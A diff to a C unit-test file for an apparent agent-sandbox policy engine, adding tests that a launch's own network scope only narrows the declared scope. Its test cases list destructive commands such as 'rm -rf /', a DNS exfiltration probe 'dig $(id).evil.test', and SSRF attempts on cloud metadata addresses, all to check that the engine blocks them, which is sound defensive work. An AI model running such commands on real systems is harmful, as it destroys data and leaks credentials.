@@ -287,7 +287,7 @@ static void command_texts_are_judged_command_by_command(void **state)
 		{ "", 'd', "invalid_request" }, { "   ", 'd', "invalid_request" },
 		{ "ls;rm x", 'd', "policy_block" }, { "ls\nrm x", 'd', "policy_block" }, { "ls\rrm", 'd', "incomplete_evidence" },
 		{ "ls | wc", 'a', NULL }, { "ls & wc < x", 'a', NULL }, { "ls > x", 'r', NULL }, { "ls < x", 'a', NULL }, { "ls $HOME", 'a', NULL }, { "ls `id`", 'a', NULL },
-		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'a', NULL },
+		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'd', "incomplete_evidence" },
 		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "echo \"x", 'd', "incomplete_evidence" },
 		/* the strongest reason wins, and its tag */
 		{ "rm -rf /", 'd', "hardline" }, { "sudo rm -rf /", 'd', "hardline" }, { "timeout 5 rm -rf /etc", 'd', "hardline" }, { "ls; env rm -rf ~", 'd', "hardline" }, { "bash -c 'rm -rf \"$HOME\"'", 'd', "hardline" },
@@ -328,7 +328,7 @@ static void requests_are_held_to_the_scope(void **state)
 {
 	static const struct { const char *text; const char *expected; } cases[] = {	/* guarded, observe; without a scope, guarded */
 		{ "curl http://target.test/", "aar" }, { "curl http://evil.test/", "rdr" }, { "curl http://target.test@evil.test/", "rdr" }, { "curl http://127.0.0.1/", "aad" }, { "curl http://10.0.0.1/", "rdd" },
-		{ "curl http://0x7f.1/", "aad" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
+		{ "curl http://0x7f.1/", "rdd" }, { "curl http://134744072/", "rdd" }, { "curl http://0xa9fea9fe/", "ddd" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
 		{ "curl -d x http://target.test/", "rdr" }, { "curl http://target.test/logout", "rdr" }, { "curl 'http://target.test/?_method=PUT'", "rdr" }, { "curl 'http://target.test/?q=drop+table+x'", "ddd" },
 		{ "curl http://target.test/ http://evil.test/", "rdr" }, { "curl gopher://target.test/", "rdr" }, { "curl \"$URL\"", "rdr" }, { "dig target.test", "aar" }, { "dig $(id).evil.test", "rdr" }, { "nmap target.test", "rrr" },
 		{ "curl http://target.test./", "aar" }, { "curl http://TARGET.test/", "aar" }, { "curl http://target.test:8080/", "aar" }, { "curl http://xn--target-x.test/", "rdr" },
@@ -580,9 +580,8 @@ static void roots_are_a_second_axis(void **state)
 
 /* ---- network ---- */
 
-static struct decision connect_to(enum mode mode, const char *address, uint16_t port, bool agent_listens, const struct scope *scope)
+static struct decision connect_as(struct judge_subject subject, const char *address, uint16_t port, bool agent_listens, const struct scope *scope)
 {
-	struct judge_subject subject = subject_in(mode);
 	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(port) };
 	struct sockaddr_in6 in6 = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
 	struct action action = { .kind = ACTION_CONNECT, .socket_type = SOCK_STREAM, .agent_listens = agent_listens };
@@ -600,6 +599,11 @@ static struct decision connect_to(enum mode mode, const char *address, uint16_t 
 	judge(policy, &subject, &action, &d);
 	check_form(&d);
 	return d;
+}
+
+static struct decision connect_to(enum mode mode, const char *address, uint16_t port, bool agent_listens, const struct scope *scope)
+{
+	return connect_as(subject_in(mode), address, port, agent_listens, scope);
 }
 
 static void addresses_are_judged_in_every_spelling(void **state)
@@ -649,6 +653,100 @@ static void listeners_of_agents_are_reached_on_loopback_only(void **state)
 	assert_int_equal(connect_to(MODE_GUARDED, "169.254.169.254", 80, true, NULL).verdict, VERDICT_DENY);
 	assert_int_equal(connect_to(MODE_GUARDED, "64:ff9b::127.0.0.1", 80, true, NULL).verdict, VERDICT_DENY);
 	assert_int_equal(connect_to(MODE_READONLY, "127.0.0.1", 8000, true, NULL).verdict, VERDICT_DENY);
+}
+
+/* Its own scope takes away, and gives nothing that the launch would not have without it. */
+static void a_launch_narrows_the_scope_and_never_widens_it(void **state)
+{
+	static const struct { const char *declared, *own, *address; uint16_t port; char expected; } cases[] = {
+		{ "10.0.0.0/8", "", "10.1.2.3", 80, 'a' }, { "10.0.0.0/8", "10.1.0.0/16", "10.1.2.3", 80, 'a' }, { "10.0.0.0/8", "10.1.0.0/16", "10.2.2.3", 80, 'd' },
+		{ "10.0.0.0/8", "10.1.2.3:443", "10.1.2.3", 80, 'd' }, { "10.0.0.0/8", "10.1.2.3:443", "10.1.2.3", 443, 'a' },
+		{ "10.1.0.0/16", "10.0.0.0/8", "10.2.2.3", 80, 'd' }, { "10.1.0.0/16", "192.0.2.1", "192.0.2.1", 80, 'd' }, { "10.1.0.0/16", "shop.test", "10.1.2.3", 80, 'd' },
+		{ "", "10.0.0.0/8", "10.1.2.3", 80, 'd' }, { "", "1.1.1.1", "1.1.1.1", 80, 'a' }, { "", "1.1.1.1", "1.1.1.2", 80, 'd' },
+		{ "", "169.254.169.254", "169.254.169.254", 80, 'd' }, { "", "127.0.0.1", "127.0.0.1", 80, 'd' },
+		{ "", "1.1.1.1", "127.0.0.1", 48080, 'a' },	/* the proxy */
+		{ "", "1.1.1.1", "::ffff:1.1.1.1", 80, 'a' },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct scope declared, own;
+		struct judge_subject subject = subject_in(MODE_GUARDED);
+
+		assert_int_equal(scope_parse(cases[i].declared, &declared, NULL), 0);
+		assert_int_equal(scope_parse(cases[i].own, &own, NULL), 0);
+		subject.narrowed = &own;
+		if (verdict_letter(connect_as(subject, cases[i].address, cases[i].port, false, &declared).verdict) != cases[i].expected)
+			fail_msg("declared %s, own %s: %s %u", cases[i].declared, cases[i].own, cases[i].address, cases[i].port);
+		scope_free(&declared);
+		scope_free(&own);
+	}
+}
+
+/* Names in texts: what is in its own scope is no more than it was without one. */
+static void a_narrowed_launch_asks_for_nothing_else(void **state)
+{
+	static const struct { const char *declared, *own, *text, *expected; } cases[] = {	/* guarded, observe */
+		{ "a.test,b.test", "", "curl http://a.test/", "aa" }, { "a.test,b.test", "a.test", "curl http://a.test/", "aa" }, { "a.test,b.test", "a.test", "curl http://b.test/", "rd" },
+		{ "a.test", "*", "curl http://b.test/", "rd" }, { "a.test", "b.test", "curl http://b.test/", "rd" }, { "", "a.test", "curl http://a.test/", "rr" },
+		{ "", "a.test", "curl http://b.test/", "rd" }, { "a.test", "a.test:443", "curl http://a.test:80/", "rd" }, { "10.0.0.0/8", "10.1.0.0/16", "curl http://10.2.0.1/", "rd" },
+		{ "", "metadata.google.internal", "curl http://metadata.google.internal/", "dd" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct scope declared, own;
+		char got[3] = "";
+
+		assert_int_equal(scope_parse(cases[i].declared, &declared, NULL), 0);
+		assert_int_equal(scope_parse(cases[i].own, &own, NULL), 0);
+		for (int m = 0; m < 2; m++) {
+			struct arena arena = { .data = arena_block, .len_bytes = sizeof(arena_block) };
+			struct judge_subject subject = { .mode = m ? MODE_OBSERVE : MODE_GUARDED, .home = "/home/agent", .scope = &declared, .narrowed = &own, .arena = &arena };
+			const char *argv[] = { cases[i].text, NULL };
+			struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
+			struct decision d;
+
+			judge(policy, &subject, &action, &d);
+			got[m] = verdict_letter(d.verdict);
+		}
+		if (strcmp(got, cases[i].expected) != 0)
+			fail_msg("declared %s, own %s: %s is %s", cases[i].declared, cases[i].own, cases[i].text, got);
+		scope_free(&declared);
+		scope_free(&own);
+	}
+}
+
+static void limits_of_a_launch_only_tighten(void **state)
+{
+	static const struct { enum root_style has; enum mode mode; const char *scope, *roots; int expected; bool strict; const char *says; } cases[] = {
+		{ ROOTS_STANDARD, MODE_GUARDED, NULL, NULL, 0, false, "" }, { ROOTS_STRICT, MODE_GUARDED, NULL, NULL, 0, true, "" },
+		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "strict", 0, true, "" }, { ROOTS_OPEN, MODE_OBSERVE, NULL, "standard", 0, false, "" },
+		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "open", -EPERM, false, "never loosen" }, { ROOTS_STRICT, MODE_GUARDED, NULL, "standard", -EPERM, true, "never loosen" },
+		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "workspace", -EINVAL, false, "\"strict\"" }, { ROOTS_STANDARD, MODE_GUARDED, NULL, "", -EINVAL, false, "expected" },
+		{ ROOTS_STANDARD, MODE_OFF, NULL, NULL, 0, false, "" }, { ROOTS_STANDARD, MODE_OFF, NULL, "strict", -EPERM, true, "mode off" },
+		{ ROOTS_STANDARD, MODE_OFF, "a.test", NULL, -EPERM, false, "mode off" }, { ROOTS_STANDARD, MODE_GUARDED, "a.test", NULL, 0, false, "" },
+		{ ROOTS_STANDARD, MODE_GUARDED, "", NULL, -EINVAL, false, "at least one" }, { ROOTS_STANDARD, MODE_GUARDED, " , ", NULL, -EINVAL, false, "at least one" },
+		{ ROOTS_STANDARD, MODE_GUARDED, "a b", NULL, -EINVAL, false, "a b" },
+	};
+	const enum root_style before = policy->paths.roots;
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		const struct launch_limits limits = { cases[i].scope, cases[i].roots };
+		struct scope scope;
+		struct err e = { 0 };
+		bool strict;
+		int r;
+
+		policy->paths.roots = cases[i].has;
+		r = judge_launch_limits(policy, cases[i].mode, &limits, &scope, &strict, &e);
+		if (r != cases[i].expected || (r == 0 && strict != cases[i].strict) || !strstr(e.text, cases[i].says))
+			fail_msg("case %zu: %d %d \"%s\"", i, r, strict, e.text);
+		assert_int_equal(scope.nr, r == 0 && cases[i].scope ? 1 : 0);
+		scope_free(&scope);
+	}
+	policy->paths.roots = before;
 }
 
 static void a_declared_scope_is_all_there_is(void **state)
@@ -1068,6 +1166,9 @@ int main(void)
 		cmocka_unit_test(addresses_are_judged_in_every_spelling),
 		cmocka_unit_test(listeners_of_agents_are_reached_on_loopback_only),
 		cmocka_unit_test(a_declared_scope_is_all_there_is),
+		cmocka_unit_test(a_launch_narrows_the_scope_and_never_widens_it),
+		cmocka_unit_test(a_narrowed_launch_asks_for_nothing_else),
+		cmocka_unit_test(limits_of_a_launch_only_tighten),
 		cmocka_unit_test(a_scope_that_cannot_be_read_is_an_error),
 		cmocka_unit_test(other_families_and_malformed_addresses),
 		cmocka_unit_test(names_set_by_text_are_judged_more_strictly_than_at_an_exec),
